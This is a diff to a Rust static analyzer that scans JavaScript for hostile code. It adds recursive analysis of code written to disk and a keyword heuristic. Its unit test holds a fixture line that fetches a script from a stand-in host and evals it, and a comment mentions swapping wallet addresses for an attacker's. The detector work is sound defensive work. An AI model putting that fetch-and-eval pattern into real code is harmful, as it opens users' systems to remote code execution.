@@ -799,6 +799,28 @@ impl<'t> Walker<'_, 't> {
         });
     }
 
+    /// Analyse `code` that this file writes to disk, its findings placed at the write
+    /// (`line`) one layer down. Each layer is a literal inside the one before, so the
+    /// recursion ends.
+    fn written_code(&mut self, code: &str, line: u32, scope: Scope) {
+        let ctx = JsCtx {
+            top: scope,
+            func: Scope {
+                stage: scope.stage,
+                factor: self.ctx.func.factor.min(scope.factor),
+            },
+            ..*self.ctx
+        };
+        let mut sub = Sink::default();
+        analyze(code.as_bytes(), &ctx, &mut sub);
+        for mut f in sub.findings {
+            f.line = line;
+            f.layer += 1;
+            self.sink.findings.push(f);
+        }
+        self.sink.strings.push_str(&sub.strings);
+    }
+
     /// Whether the function `f` runs as part of the code around it (a callback handed to
     /// a call, an immediately invoked function) rather than when someone calls it.
     fn inherits(&self, f: Node<'_>, top_called: &HashSet<&str>) -> bool {
@@ -1066,6 +1088,15 @@ impl<'t> Walker<'_, 't> {
             | "fs.createWriteStream"
             | "fs.promises.writeFile"
             | "fs/promises.writeFile" => {
+                // Code written to disk (a script to run later, a patched copy of another
+                // application's module) is analysed as code running where the write is.
+                if let Some(code) = args
+                    .and_then(|a| a.named_child(1))
+                    .and_then(|d| js.static_str(d))
+                    .filter(|c| looks_like_js(c))
+                {
+                    self.written_code(&code, line, scope);
+                }
                 self.writes.push((line, fid, scope, snip, in_net));
             }
             // `text.replace(/0x[a-fA-F0-9]{40}/g, '0xAttacker...')`: every address in the data
@@ -1229,6 +1260,20 @@ impl<'t> Walker<'_, 't> {
     }
 }
 
+/// Whether a string written to a file reads as JavaScript worth analysing.
+fn looks_like_js(s: &str) -> bool {
+    s.len() >= 24
+        && [
+            "require(",
+            "eval(",
+            "child_process",
+            "process.env",
+            "Function(",
+        ]
+        .iter()
+        .any(|k| s.contains(k))
+}
+
 /// The argument of an eval-like call that holds the code: the last one for
 /// `Function(arg1, ..., body)`, the first otherwise.
 fn code_arg<'t>(name: &str, args: Node<'t>) -> Option<Node<'t>> {
@@ -1280,6 +1325,23 @@ mod tests {
         };
         let facts = analyze(src.as_bytes(), &ctx, &mut sink);
         (sink.findings.iter().map(|r| r.rule).collect(), facts)
+    }
+
+    #[test]
+    fn code_written_to_disk_is_analysed_where_it_is_written() {
+        let top = Scope {
+            stage: Stage::Import,
+            factor: 1.0,
+        };
+        let injected = "const fs = require('fs');\nfs.writeFileSync(p, \"require('https').get('https://x.test/i.js', r => { let s=''; r.on('data', c => s += c); r.on('end', () => eval(s)); });\");\n";
+        let (rules, _) = run(injected, top);
+        assert!(rules.contains(&"JS-EVAL-REMOTE"), "{rules:?}");
+        // Text and data written are not analysed as code.
+        let (rules, _) = run(
+            "const fs = require('fs');\nfs.writeFileSync('notes.txt', 'eval is described in chapter 2');\n",
+            top,
+        );
+        assert!(!rules.contains(&"JS-EVAL-DYNAMIC"), "{rules:?}");
     }
 
     #[test]
